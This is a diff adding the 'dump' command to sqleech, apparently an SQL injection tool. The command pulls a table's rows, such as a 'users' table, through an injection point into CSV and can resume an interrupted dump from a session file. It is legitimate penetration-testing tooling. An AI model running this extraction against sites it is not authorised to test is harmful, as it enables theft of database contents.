@@ -0,0 +1,157 @@
+package cli
+
+import (
+	"context"
+	"errors"
+	"fmt"
+	"io"
+	"os"
+	"os/signal"
+	"strings"
+
+	"github.com/spf13/cobra"
+
+	"github.com/0x6d61/sqleech/internal/enum"
+	"github.com/0x6d61/sqleech/internal/session"
+)
+
+var dumpCmd = &cobra.Command{
+	Use:   "dump",
+	Short: "Dump the rows of a table as CSV through an injection point",
+	Long: `Dump reads the rows of a table through an injection point and writes
+them as CSV, a header of the column names first. Without --columns every
+column of the table is dumped.
+
+--start and --stop limit the dump to those rows, counted from 1 in the
+order the dump reads them; a partial dump starts with a "# rows" comment.
+
+With --session, the injection point is the one a scan saved for the target
+(the target is scanned first when there is none), and the dump's progress
+is saved after every row: a dump that is interrupted resumes where it
+stopped when run again, appending to --output.
+
+Examples:
+  sqleech dump -u "http://target.com/page?id=1" -D shop -T users
+  sqleech dump -u "http://target.com/page?id=1" -D shop -T orders --start 1 --stop 100 --session scan.db -o orders.csv`,
+	RunE: runDump,
+}
+
+func init() {
+	rootCmd.AddCommand(dumpCmd)
+	dumpCmd.Flags().StringP("db", "D", "", "Database of the table")
+	dumpCmd.Flags().StringP("table", "T", "", "Table to dump")
+	dumpCmd.Flags().StringP("columns", "C", "", "Columns to dump, comma-separated (default: all)")
+	dumpCmd.Flags().Int("start", 0, "First row to dump, counted from 1")
+	dumpCmd.Flags().Int("stop", 0, "Last row to dump (default: the last row)")
+	dumpCmd.Flags().String("session", "", "Session file path to reuse the injection point a scan saved and the progress of the dump (SQLite)")
+}
+
+// runDump is the dump command handler.
+func runDump(cmd *cobra.Command, args []string) error {
+	db, _ := cmd.Flags().GetString("db")
+	table, _ := cmd.Flags().GetString("table")
+	columnsStr, _ := cmd.Flags().GetString("columns")
+	startRow, _ := cmd.Flags().GetInt("start")
+	stopRow, _ := cmd.Flags().GetInt("stop")
+	sessionPath, _ := cmd.Flags().GetString("session")
+	outputPath, _ := cmd.Flags().GetString("output")
+
+	if db == "" || table == "" {
+		return fmt.Errorf("--db and --table are required")
+	}
+	rows := enum.RowRange{Start: startRow, Stop: stopRow}
+	if err := rows.Validate(); err != nil {
+		return fmt.Errorf("--start/--stop: %w", err)
+	}
+	scanner, target, _, err := findingTarget(cmd)
+	if err != nil {
+		return err
+	}
+	filter, err := extractFilter(cmd)
+	if err != nil {
+		return err
+	}
+
+	ctx, cancel := signal.NotifyContext(cmd.Context(), os.Interrupt)
+	defer cancel()
+
+	var store session.Store
+	if sessionPath != "" {
+		s, err := session.NewSQLiteStore(sessionPath)
+		if err != nil {
+			return fmt.Errorf("failed to open session file %q: %w", sessionPath, err)
+		}
+		defer s.Close()
+		store = s
+	}
+	result, err := searchFindings(ctx, scanner, target, store)
+	if err != nil {
+		return err
+	}
+	en := findingEnumerator(scanner, target, result)
+	if en == nil {
+		return fmt.Errorf("no injectable finding of a known DBMS on %s to dump through", target.URL)
+	}
+
+	var columns []string
+	for _, c := range strings.Split(columnsStr, ",") {
+		if c = strings.TrimSpace(c); c != "" {
+			columns = append(columns, c)
+		}
+	}
+	if len(columns) == 0 {
+		if columns, err = en.Columns(ctx, db, table); err != nil {
+			return fmt.Errorf("listing the columns of %s.%s: %w", db, table, err)
+		}
+	}
+
+	opts := enum.DumpOptions{Range: rows, Filter: filter}
+	key := db + "." + table
+	if store != nil {
+		if opts.Offset, err = store.LoadDumpOffset(ctx, target.URL, key); err != nil {
+			return err
+		}
+		// Progress outlives an interrupt, so it is saved regardless of ctx.
+		saveCtx := context.WithoutCancel(ctx)
+		opts.Progress = func(next int) {
+			if err := store.SaveDumpOffset(saveCtx, target.URL, key, next); err != nil {
+				fmt.Fprintf(os.Stderr, "[!] Failed to save dump progress: %v\n", err)
+			}
+		}
+	}
+
+	out := cmd.OutOrStdout()
+	if outputPath != "" {
+		flags := os.O_WRONLY | os.O_CREATE | os.O_TRUNC
+		if opts.Offset > 0 {
+			flags = os.O_WRONLY | os.O_CREATE | os.O_APPEND
+		}
+		f, err := os.OpenFile(outputPath, flags, 0o644)
+		if err != nil {
+			return fmt.Errorf("failed to create output file %q: %w", outputPath, err)
+		}
+		defer f.Close()
+		out = f
+	}
+	return dumpTable(ctx, en, store, target.URL, db, table, columns, opts, out)
+}
+
+// dumpTable runs the dump of opts, and forgets its saved progress in store
+// once it is complete.
+func dumpTable(ctx context.Context, en *enum.Enumerator, store session.Store, targetURL, db, table string, columns []string, opts enum.DumpOptions, w io.Writer) error {
+	err := en.Dump(ctx, db, table, columns, opts, w)
+	var partial *enum.PartialError
+	if errors.As(err, &partial) {
+		if store != nil {
+			return fmt.Errorf("dump stopped at row %d; run it again with the same --session to resume: %w", partial.Offset+1, err)
+		}
+		return fmt.Errorf("dump stopped at row %d: %w", partial.Offset+1, err)
+	}
+	if err != nil {
+		return err
+	}
+	if store != nil {
+		return store.SaveDumpOffset(ctx, targetURL, db+"."+table, 0)
+	}
+	return nil
+}